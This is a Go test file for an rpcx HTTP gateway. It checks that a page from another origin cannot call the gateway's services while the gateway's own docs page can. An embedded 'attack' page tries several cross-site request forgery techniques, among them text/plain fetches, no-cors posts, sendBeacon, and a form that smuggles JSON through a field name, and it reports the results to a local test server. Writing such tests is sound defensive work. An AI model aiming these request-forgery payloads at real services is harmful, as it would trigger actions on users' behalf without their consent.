// SPDX-License-Identifier: Apache-2.0

package main

import (
	"context"
	"errors"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/rpcx-go/rpcx/examples/internal/browsertest"
	"github.com/rpcx-go/rpcx/reflection"
	"github.com/rpcx-go/rpcx/registry/memory"
	"github.com/rpcx-go/rpcx/server"
)

// attack is a page of another site. It tries what pages can, and tells what came of it.
const attack = `<!doctype html><iframe name="sink"></iframe><script type="module">
const url = "GATEWAY/Text/Shout", body = '{"Text":"mine"}', rpc = '{"jsonrpc":"2.0","method":"Text.Shout","params":{"Text":"mine"},"id":1}';
const report = [];
const attempt = async (name, f) => {
  try { report.push(name + ": " + await f()); } catch { report.push(name + ": refused"); }
};
const json = { "Content-Type": "application/json" }, text = { "Content-Type": "text/plain" };
await attempt("JSON", async () => (await fetch(url, { method: "POST", headers: json, body })).text());
await attempt("text", async () => (await fetch(url, { method: "POST", headers: text, body })).text());
await attempt("headers", async () => (await fetch(url, { method: "POST", body, headers: {
  "X-RPCX-SerializeType": "1", "X-RPCX-ServicePath": "Text", "X-RPCX-ServiceMethod": "Shout" } })).text());
await attempt("JSON-RPC", async () => (await fetch("GATEWAY/", { method: "POST", headers: text, body: rpc })).text());
await attempt("document", async () => (await fetch("GATEWAY/docs/openapi.json")).text());
for (const [path, headers] of [["/Text/Shout", text], ["/", text]]) {
  await attempt("blind", async () => (await fetch("GATEWAY" + path, { method: "POST", mode: "no-cors", headers, body })).type);
}
await attempt("beacon", async () => String(navigator.sendBeacon(url, new Blob([body], { type: "text/plain" }))));
const form = Object.assign(document.createElement("form"), { method: "POST", action: url, enctype: "text/plain", target: "sink" });
form.append(Object.assign(document.createElement("input"), { name: '{"Text":"', value: 'mine"}' }));
document.body.append(form);
form.submit();
await new Promise((done) => document.querySelector("iframe").addEventListener("load", done));
await fetch("/report", { method: "POST", body: report.join("\n") });
</script>`

// visit is a page of the gateway's own, which uses the page to try calls from.
const visit = `<!doctype html><iframe src="/docs/#Text.Shout"></iframe><script type="module">
const until = async (what) => { while (!what()) await new Promise((r) => setTimeout(r, 5)); };
const frame = document.querySelector("iframe");
const $ = (id) => frame.contentDocument?.getElementById(id);
await until(() => $("method") && !$("method").hidden && $("name").textContent === "Text.Shout");
$("body").value = '{"Text":"hello"}';
$("body").dispatchEvent(new Event("input"));
$("send").click();
await until(() => $("reply")?.textContent);
await fetch("/report", { method: "POST", body: $("reply").textContent.replaceAll(/\s+/g, "") });
</script>`

// A browser calls from the gateway's own page, and from no other one.
func TestBrowser(t *testing.T) {
	path := browsertest.Path(t)
	var calls atomic.Int32
	services := memory.New()
	s := server.NewServer(server.WithRegistrar(services, "", 0))
	err := errors.Join(reflection.Register(s), server.Handle(s, "Text", "Shout", func(ctx context.Context, args, reply *Text) error {
		calls.Add(1)
		return shout(ctx, args, reply)
	}))
	if err != nil {
		t.Fatal(err)
	}
	go s.Serve("tcp", "127.0.0.1:0")
	<-s.Started()
	defer s.Close()
	wait(services, "Text")

	gw, err := newGateway(services, settings{services: []string{"Text"}})
	if err != nil {
		t.Fatal(err)
	}
	defer gw.Close()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go gw.Serve(ln)
	base := "http://" + ln.Addr().String()

	reports := make(chan string, 1)
	report := func(_ http.ResponseWriter, r *http.Request) {
		text, _ := io.ReadAll(r.Body) // what is missing shows
		reports <- string(text)
	}
	page := func(text string) http.HandlerFunc {
		return func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			_, _ = io.WriteString(w, text) // or no report comes
		}
	}
	other := http.NewServeMux()
	other.Handle("GET /", page(strings.ReplaceAll(attack, "GATEWAY", base)))
	other.HandleFunc("POST /report", report)
	evil := httptest.NewServer(other)
	defer evil.Close()
	if err := errors.Join(gw.HandleHTTP("GET /visit", page(visit)), gw.HandleHTTP("POST /report", http.HandlerFunc(report))); err != nil {
		t.Fatal(err)
	}

	// The same machine by another name is another site.
	got := browsertest.Open(t, path, strings.Replace(evil.URL, "127.0.0.1", "localhost", 1), reports)
	want := `JSON: refused
text: refused
headers: refused
JSON-RPC: refused
document: refused
blind: opaque
blind: opaque
beacon: true`
	if got != want || calls.Load() != 0 {
		t.Errorf("another site reports\n%s\nwant\n%s\nand has made %d calls", got, want, calls.Load())
	}
	if got := browsertest.Open(t, path, base+"/visit", reports); got != `{"Text":"HELLO!"}` || calls.Load() != 1 {
		t.Errorf("the own page reports %s after %d calls", got, calls.Load())
	}
}
